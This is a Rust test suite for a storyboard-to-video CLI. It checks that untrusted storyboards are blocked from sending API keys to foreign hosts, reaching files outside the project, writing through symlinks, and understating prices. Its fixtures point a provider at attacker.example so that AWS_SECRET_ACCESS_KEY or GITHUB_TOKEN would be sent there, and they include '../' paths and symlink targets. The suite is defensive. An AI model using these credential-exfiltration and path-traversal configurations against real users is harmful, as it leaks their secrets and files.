//! A storyboard is a stranger's text: what it may have is for the user alone to say.

use std::fs;

use crate::loopback::{Loopback, Settings};
use crate::support::{Run, media};

/// A key that must appear nowhere.
const SECRET: &str = "AKIA-not-for-strangers";

/// A storyboard of one shot with these settings of its provider.
fn board(settings: &str, shot: &str) -> String {
    format!(
        "storyboard: 1\ntitle: PR\ndefaults: {{provider: byteplus, resolution: 480p, duration: 4}}\nproviders:\n  \
         byteplus: {settings}\nshots:\n  - {{id: a, prompt: Rain.{shot}}}\n"
    )
}

const FOREIGN: &str = "{base_url: \"https://attacker.example/v3\", api_key_env: AWS_SECRET_ACCESS_KEY}";

fn project(text: &str) -> Run {
    Run::new().board("film.yaml", text).env("AWS_SECRET_ACCESS_KEY", SECRET).env("BYTEPLUS_API_KEY", SECRET)
}

#[test]
fn a_key_goes_to_no_host_that_only_the_storyboard_names() {
    let text = board(FOREIGN, "");
    let refused = project(&text).args(["render", "film.yaml", "--yes"]).code(4);
    let refused = refused.err_has("film.yaml:5").err_has("`attacker.example`").err_has("AWS_SECRET_ACCESS_KEY");
    let refused = refused.err_has("--allow-host attacker.example").err_has("storyreel trust host attacker.example");
    refused.err_has("--allow-env AWS_SECRET_ACCESS_KEY").says_nothing_of(SECRET);
    // Each is for itself.
    let run = project(&text).args(["render", "film.yaml", "--yes", "--allow-host", "attacker.example"]);
    run.code(4).err_has("--allow-env AWS_SECRET_ACCESS_KEY").says_nothing_of(SECRET);
    let run = project(&text).args(["render", "film.yaml", "--yes", "--allow-env", "AWS_SECRET_ACCESS_KEY"]);
    run.code(4).err_has("--allow-host attacker.example").says_nothing_of(SECRET);
    // What was bought there is fetched under the same rule, and nothing that looks alike is the host that was meant.
    for host in ["example", "xattacker.example", "attacker.example.org", "attacker.example:8443"] {
        let run = project(&text).args(["render", "film.yaml", "--yes", "--allow-env", "AWS_SECRET_ACCESS_KEY"]);
        run.args(["--allow-host", host]).code(4).err_has("`attacker.example`");
    }
}

#[test]
fn check_and_plan_name_what_a_storyboard_asks_for() {
    let text = board(FOREIGN, "");
    let check = project(&text).args(["check", "film.yaml"]).ok();
    check.err_has("trust::host").err_has("trust::variable").err_has("attacker.example").says_nothing_of(SECRET);
    let plan = project(&text).args(["plan", "film.yaml"]).ok();
    assert!(plan.stdout.starts_with("! film.yaml:5: the key for `byteplus` would go to"), "{}", plan.stdout);
    let markdown = project(&text).args(["plan", "film.yaml", "--format", "markdown"]).ok();
    markdown.out_has("⚠ **film.yaml:5**").out_has("attacker.example");
    let json = project(&text).args(["plan", "film.yaml", "--format", "json"]).ok().json();
    assert_eq!((&json["trust"][0]["kind"], &json["trust"][1]["kind"]), (&"host".into(), &"variable".into()));
    assert_eq!(json["trust"][1]["what"], "AWS_SECRET_ACCESS_KEY");
    let own = project(&board("{api_key_env: BYTEPLUS_API_KEY}", "")).args(["plan", "film.yaml", "--format", "json"]);
    assert!(own.ok().json()["trust"].is_null(), "its own variable is nothing to ask for");
}

#[test]
fn a_user_allows_hosts_and_variables_for_good_and_takes_them_back() {
    let text = board(FOREIGN, "");
    let seen = project(&text).args(["trust", "list"]).ok().err_has("nothing is allowed");
    seen.again().args(["trust", "host", "Attacker.Example"]).ok();
    seen.again().args(["trust", "env", "AWS_SECRET_ACCESS_KEY"]).ok();
    let list = seen.again().args(["trust", "list"]).ok();
    list.out_has("host attacker.example").out_has("env  AWS_SECRET_ACCESS_KEY");
    let run = |args: &[&str]| seen.again().env("AWS_SECRET_ACCESS_KEY", SECRET).args(args);
    let json = run(&["plan", "film.yaml", "--format", "json"]).ok().json();
    assert!(json["trust"].is_null(), "{json:#}");
    seen.again().args(["doctor"]).run().out_has("host attacker.example");
    let kept = seen.path().join(".config/storyreel/trust");
    assert!(!fs::read_to_string(&kept).expect("it is kept").contains(SECRET));
    seen.again().args(["trust", "forget", "attacker.example"]).ok();
    run(&["render", "film.yaml", "--yes"]).code(4).err_has("--allow-host attacker.example");
    seen.again().args(["trust", "forget"]).ok();
    seen.again().args(["trust", "list"]).ok().err_has("nothing is allowed");
    seen.again().args(["trust", "forget", "other.example"]).code(2);
    for wrong in ["*.example", "https://a.example", "a.example/v3", "a b"] {
        seen.again().args(["trust", "host", wrong]).code(2);
    }
    for wrong in ["", "A B", "A\nhost attacker.example", "A=B"] {
        seen.again().args(["trust", "env", wrong]).code(2);
    }
}

#[test]
fn this_machine_and_the_users_own_variable_need_no_permission() {
    let service = Loopback::start(Settings::new());
    let base = service.base("byteplus");
    let here = board(&format!("{{base_url: \"{base}\", api_key_env: MY_KEY, poll: {{initial: 1, max: 1}}}}"), "");
    let run = Run::new().board("film.yaml", &here).env("MY_KEY", Loopback::key("byteplus"));
    run.args(["render", "film.yaml", "--yes"]).ok();
    // An address in the environment is the user's own, whatever the storyboard says.
    let away = board("{base_url: \"https://attacker.example/v3\", poll: {initial: 1, max: 1}}", "");
    let run = Run::new().board("film.yaml", &away).env("STORYREEL_BYTEPLUS_BASE_URL", &base);
    run.env("BYTEPLUS_API_KEY", Loopback::key("byteplus")).args(["render", "film.yaml", "--yes"]).ok();
    assert_eq!(service.ledger().billed().len(), 2);
}

#[test]
fn a_lowered_price_is_named_and_counts_for_no_gate_of_an_untrusted_storyboard() {
    for price in
        ["per_second: 0", "per_million_tokens: 6.99", "per_second: 0.05", "per_million_tokens: 7, currency: CNY"]
    {
        let text = board(&format!("{{prices: [{{model: seedance-2.0, {price}}}]}}"), "");
        let plan = project(&text).args(["plan", "film.yaml", "--format", "json"]).ok().json();
        assert_eq!(plan["trust"][0]["kind"], "price", "{price}: {plan:#}");
        let stranger = project(&text).args(["plan", "film.yaml", "--untrusted", "--max-cost", "0.1USD"]).code(4);
        stranger.err_has("the plan can cost 0.284158 USD, more than the limit of 0.10 USD");
        let stranger = project(&text).args(["plan", "film.yaml", "--untrusted", "--max-cost", "1USD"]).code(4);
        stranger.err_has("the storyboard prices `seedance-2.0`").out_has("costs 0.28 USD");
    }
    // The same for a model that is declared with the id or the name of a known one.
    for (name, id, price, words) in [
        (
            "mine",
            "dreamina-seedance-2-0-260128",
            "per_second: 0.001",
            "0.001 USD/second, below 7.00 USD/million_tokens",
        ),
        (
            "mine",
            "dreamina-seedance-2-0-260128",
            "per_second: 50, currency: JPY",
            "in place of 7.00 USD/million_tokens",
        ),
        ("seedance-2.0", "other", "per_million_tokens: 1", "below 7.00 USD/million_tokens"),
    ] {
        let model = format!(
            "{{id: {id}, modes: [text], seconds: [4], sizes: {{480p: {{16:9: 864x496}}}}, price: {{{price}}}}}"
        );
        let text = board(&format!("{{models: {{{name}: {model}}}}}"), &format!(", model: {name}"));
        let plan = project(&text).args(["plan", "film.yaml", "--format", "json"]).ok().json();
        let message = plan["trust"][0]["message"].as_str().unwrap_or_default();
        assert!(message.contains(words), "{name} {price}: {plan:#}");
    }
    let fair = board("{prices: [{model: seedance-2.0, per_million_tokens: 8}]}", "");
    let plan = project(&fair).args(["plan", "film.yaml", "--format", "json"]).ok().json();
    assert!(plan["trust"].is_null(), "{plan:#}");
}

#[test]
fn a_pull_request_that_changes_the_provider_alone_says_so_at_its_top() {
    let git = |seen: &crate::support::Seen, args: &[&str]| {
        let mut git = std::process::Command::new("git");
        git.args(["-c", "user.name=a", "-c", "user.email=a@b"]).args(args).current_dir(seen.path());
        assert!(git.output().expect("git is there").status.success(), "{args:?}");
    };
    let before = "storyboard: 1\ntitle: PR\ndefaults: {provider: byteplus, resolution: 480p}\nshots:\n  - id: a\n    prompt: Rain.\n";
    let seen = Run::new().board("film.yaml", before).args(["check", "film.yaml", "-q"]).ok();
    fs::remove_dir(seen.path().join(".git")).expect("it is empty");
    git(&seen, &["init", "-q"]);
    git(&seen, &["add", "film.yaml"]);
    git(&seen, &["commit", "-q", "-m", "before"]);
    let providers = "providers:\n  byteplus: {base_url: \"https://attacker.example/v3\", api_key_env: GITHUB_TOKEN, \
                     prices: [{model: seedance-2.0, per_second: 0}]}\n";
    let after = before.replace("shots:", &format!("{providers}shots:"));
    let compared = |args: &[&str]| {
        let run = seen.again().board("film.yaml", &after).args(["plan", "film.yaml", "--against", "HEAD"]);
        run.args(["--format", "markdown"]).args(args)
    };
    let comment = compared(&[]).ok();
    for words in ["attacker.example", "GITHUB&#95;TOKEN", "below 7.00 USD"] {
        let at = comment.stdout.find(words).unwrap_or_else(|| panic!("{words} is not in {}", comment.stdout));
        assert!(at < comment.stdout.find("Against ").expect("it is compared"), "{words} stands at the top");
    }
    assert!(!comment.stdout.contains("nothing changed"), "{}", comment.stdout);
    compared(&["--untrusted", "--max-cost", "0"]).code(4);
    compared(&["--untrusted"]).code(4).out_has("attacker.example");
}

#[test]
fn files_outside_the_project_are_named_where_they_would_be_sent_and_refused_to_strangers() {
    let run = Run::new();
    let outside = run.path().parent().expect("it has one").join(format!("outside-{}.png", std::process::id()));
    fs::write(&outside, media::png(864, 496)).expect("written");
    let name = outside.file_name().expect("it has a name").to_string_lossy().into_owned();
    let path = format!("../{name}");
    let sent = board("{}", &format!(", first_frame: {path}")) + &format!("  - {{id: b, image: {path}, duration: 1}}\n");
    let seen = run.board("film.yaml", &sent).args(["plan", "film.yaml", "--format", "json"]).ok();
    let json = seen.json();
    assert_eq!((&json["trust"][0]["kind"], &json["trust"][0]["what"]), (&"file".into(), &path.clone().into()));
    assert!(json["trust"][0]["message"].as_str().is_some_and(|words| words.contains("would be sent to `byteplus`")));
    seen.again().args(["render", "film.yaml", "--untrusted", "--yes"]).code(4).err_has("is outside the project");
    seen.again().args(["check", "film.yaml", "--untrusted"]).code(3).err_has("trust::file");
    seen.again().env("STORYREEL_UNTRUSTED", "1").args(["check", "film.yaml"]).code(3).err_has("trust::file");
    // A picture that is shown here alone is nothing to name, unless the storyboard is a stranger's.
    let shown = format!("storyboard: 1\ntitle: PR\nshots:\n  - {{id: b, image: {path}, duration: 1}}\n");
    let plan = seen.again().board("film.yaml", &shown).args(["plan", "film.yaml", "--format", "json"]).ok().json();
    assert!(plan["trust"].is_null(), "{plan:#}");
    seen.again().args(["render", "film.yaml", "--untrusted"]).code(4).err_has("is outside the project");
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink(&outside, seen.path().join("link.png")).expect("linked");
        let linked = shown.replace(&path, "link.png");
        let run = seen.again().board("film.yaml", &linked).args(["render", "film.yaml", "--untrusted"]);
        run.code(4).err_has("`link.png` is outside the project");
    }
    fs::remove_file(outside).expect("removed");
}

#[test]
#[cfg(unix)]
fn nothing_is_written_through_a_link_of_an_untrusted_storyboard() {
    let text = "storyboard: 1\ntitle: PR\nshots:\n  - {id: b, card: {text: Hello}, duration: 1}\n";
    let away = tempfile::tempdir().expect("a folder");
    for link in ["out", "film.lock.yaml", ".storyreel"] {
        let seen = Run::new().board("film.yaml", text).args(["check", "film.yaml", "-q"]).ok();
        let target = if link == "film.lock.yaml" { away.path().join("victim") } else { away.path().to_owned() };
        if link == "film.lock.yaml" {
            fs::write(&target, "lock: 1\nshots:\n").expect("written");
        }
        std::os::unix::fs::symlink(&target, seen.path().join(link)).expect("linked");
        let refused = seen.again().args(["render", "film.yaml", "--untrusted"]).code(4);
        refused.err_has(&format!("`{link}` is a link"));
        seen.again().args(["report", "film.yaml", "--untrusted"]).code(4);
    }
    assert_eq!(fs::read_dir(away.path()).expect("listed").count(), 1, "the victim alone, and it stays as it was");
    assert_eq!(fs::read_to_string(away.path().join("victim")).expect("it is there"), "lock: 1\nshots:\n");
}

#[test]
fn a_stranger_with_nothing_to_ask_is_served_as_all_are() {
    let text = "storyboard: 1\ntitle: PR\nshots:\n  - {id: b, card: {text: Hello}, duration: 1}\n";
    let seen = Run::new().board("film.yaml", text).args(["render", "film.yaml", "--untrusted", "-q"]).ok();
    assert!(seen.path().join("out/film.mp4").exists());
}

/// A file beside the project, which its storyboards reach by `..`; it goes when this does.
struct Outside {
    file: std::path::PathBuf,
}

impl Outside {
    fn new(project: &Run, name: &str, bytes: &[u8]) -> Self {
        let folder = project.path().parent().expect("it has one");
        let file = folder.join(format!("{}-{name}", project.path().file_name().expect("it has one").to_string_lossy()));
        fs::write(&file, bytes).expect("written");
        Self { file }
    }

    /// The path as a storyboard names it.
    fn path(&self) -> String {
        format!("../{}", self.file.file_name().expect("it has one").to_string_lossy())
    }
}

impl Drop for Outside {
    fn drop(&mut self) {
        let _ = fs::remove_file(&self.file);
    }
}

#[test]
fn a_file_that_reaches_a_service_by_way_of_another_shot_is_named_too() {
    let run = Run::new();
    let picture = Outside::new(&run, "passport.png", &media::png(864, 496));
    let shot = |make: &str| board("{}", ", first_frame: {last_frame_of: b}") + &format!("  - {{id: b, {make}}}\n");
    let path = picture.path();
    let seen = run.args(["check", "none.yaml"]).code(3);
    for make in [
        format!("image: {path}, duration: 1"),
        format!("prompt: A passport., provider: animatic, first_frame: {path}"),
        format!("prompt: A passport., provider: animatic, references: {{images: [{path}]}}"),
    ] {
        let plan = seen.again().board("film.yaml", &shot(&make)).args(["plan", "film.yaml", "--format", "json"]);
        let json = plan.ok().json();
        assert_eq!(json["trust"][0]["what"], path.as_str(), "{make}: {json:#}");
        let words = json["trust"][0]["message"].as_str().expect("it is text").to_owned();
        assert!(words.contains("would be sent to `byteplus`"), "{make}: {words}");
    }
    let here = shot(&format!("image: {path}, duration: 1")).replace("provider: byteplus, ", "");
    let plan = seen.again().board("film.yaml", &here).args(["plan", "film.yaml", "--format", "json"]).ok().json();
    assert!(plan["trust"].is_null(), "{plan:#}");
}

#[test]
fn a_price_says_for_what_it_is_and_by_what_it_is_lower() {
    let asked = |price: &str| {
        let text = board(&format!("{{prices: [{{model: seedance-2.0, {price}}}]}}"), "");
        let json = project(&text).args(["plan", "film.yaml", "--format", "json"]).ok().json();
        json["trust"][0]["message"].as_str().unwrap_or_default().to_owned()
    };
    assert!(asked("per_second: 0").contains("with 0.00 USD/second, below 7.00 USD/million_tokens"));
    let with_video = asked("per_million_tokens: 7, with_video: 1");
    assert!(
        with_video.contains("1.00 USD/million_tokens with a video among the inputs, below 4.30 USD"),
        "{with_video}"
    );
    assert_eq!(asked("per_million_tokens: 8, with_video: 4.8"), "");
}

#[test]
fn check_refuses_addresses_that_no_key_is_sent_to() {
    for address in ["http://gateway.example/v3", "https://me:secret@gateway.example", "https://gateway.example?a=b"] {
        let text = board(&format!("{{base_url: \"{address}\"}}"), "");
        let seen = project(&text).args(["check", "film.yaml"]).code(3);
        seen.err_has("film::base_url").err_has("[film.yaml:5:");
    }
}

#[test]
#[cfg(unix)]
fn no_command_writes_through_a_link_for_a_stranger() {
    let text = "storyboard: 1\ntitle: PR\nshots:\n  - {id: b, card: {text: Hello}, duration: 1}\n";
    let away = tempfile::tempdir().expect("a folder");
    let seen = Run::new().board("film.yaml", text).args(["check", "film.yaml", "-q"]).ok();
    std::os::unix::fs::symlink(away.path(), seen.path().join("edit")).expect("linked");
    for args in [
        "plan film.yaml --out edit/film.plan",
        "report film.yaml -o edit/film.html",
        "report film.yaml --sheet edit/sheet.png",
        "export film.yaml --to otio -o edit/film.otio",
        "export film.yaml --to otio --copy-media edit/media",
        "render film.yaml -o edit/film.mp4",
    ] {
        let run = seen.again().args(args.split(' ')).args(["--untrusted"]);
        run.code(4).err_has("would be written through the link");
        assert_eq!(fs::read_dir(away.path()).expect("listed").count(), 0, "{args}");
    }
    // It is a user's own affair otherwise.
    seen.again().args(["plan", "film.yaml", "--out", "edit/film.plan"]).ok();
    assert_eq!(fs::read_dir(away.path()).expect("listed").count(), 1);
}

#[test]
#[cfg(unix)]
fn a_store_with_links_in_it_is_not_written_to_for_a_stranger() {
    let text = "storyboard: 1\ntitle: PR\nshots:\n  - {id: b, card: {text: Hello}, duration: 1}\n";
    for link in [".storyreel", ".storyreel/films", ".storyreel/objects", ".storyreel/objects/00", ".storyreel/stills"] {
        let away = tempfile::tempdir().expect("a folder");
        let seen = Run::new().board("film.yaml", text).args(["check", "film.yaml", "-q"]).ok();
        let place = seen.path().join(link);
        fs::create_dir_all(place.parent().expect("it has one")).expect("the folder is ours");
        std::os::unix::fs::symlink(away.path(), place).expect("linked");
        for args in ["render film.yaml", "report film.yaml", "recover film.yaml", "recover"] {
            let refused = seen.again().args(args.split(' ')).args(["--untrusted"]).code(4);
            refused.err_has(&format!("`{link}` is a link"));
        }
        seen.again().args(["check", "film.yaml", "--untrusted"]).code(3).err_has("trust::link");
        assert_eq!(fs::read_dir(away.path()).expect("listed").count(), 0, "{link}");
    }
}

#[test]
fn a_plan_that_is_refused_is_shown_and_not_saved() {
    let text = board(FOREIGN, "");
    let seen = project(&text).args(["plan", "film.yaml", "--untrusted", "--out", "film.plan"]).code(4);
    let seen = seen.out_has("attacker.example");
    assert!(!seen.path().join("film.plan").exists());
    seen.again().args(["plan", "film.yaml", "--compare"]).ok().err_has("attacker.example");
    seen.again().args(["plan", "film.yaml", "--compare", "--untrusted"]).code(4).err_has("attacker.example");
}

#[test]
fn the_older_version_of_a_strangers_storyboard_reads_nothing_outside_either() {
    let run = Run::new();
    // Read, it would be a fault: it is no picture.
    let secret = Outside::new(&run, "secret.png", b"\x89PNG\r\n\x1a\n and nothing more");
    let text = format!("storyboard: 1\ntitle: PR\nshots:\n  - {{id: b, image: {}, duration: 1}}\n", secret.path());
    let seen = run.board("film.yaml", &text).args(["check", "film.yaml", "-q"]).code(3);
    fs::remove_dir(seen.path().join(".git")).expect("it is empty");
    for args in ["init -q", "add film.yaml", "-c user.name=a -c user.email=a@b commit -q -m before"] {
        let mut git = std::process::Command::new("git");
        git.args(args.split(' ')).current_dir(seen.path());
        assert!(git.status().expect("git is there").success(), "{args}");
    }
    let after = "storyboard: 1\ntitle: PR\nshots:\n  - {id: b, card: B, duration: 1}\n";
    let run = seen.again().board("film.yaml", after).args(["plan", "film.yaml", "--against", "HEAD", "--untrusted"]);
    run.ok().out_has("changed");
}

#[test]
fn what_is_remembered_is_the_users_own() {
    // A relative folder of settings would be one of the project.
    let text = board(FOREIGN, "");
    let kept = "host attacker.example\nenv AWS_SECRET_ACCESS_KEY\n";
    let run = project(&text).file("settings/storyreel/trust", kept).env("XDG_CONFIG_HOME", "settings");
    run.args(["render", "film.yaml", "--yes"]).code(4).err_has("--allow-host attacker.example");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        let seen = Run::new().args(["trust", "host", "gateway.example"]).ok();
        let file = seen.path().join(".config/storyreel/trust");
        assert_eq!(fs::metadata(&file).expect("it is kept").permissions().mode() & 0o777, 0o600);
        // What cannot be read is not written over.
        fs::write(&file, b"host \xff\n").expect("written");
        seen.again().args(["trust", "env", "MY_KEY"]).code(1);
        assert_eq!(fs::read(&file).expect("it is there"), b"host \xff\n");
    }
}
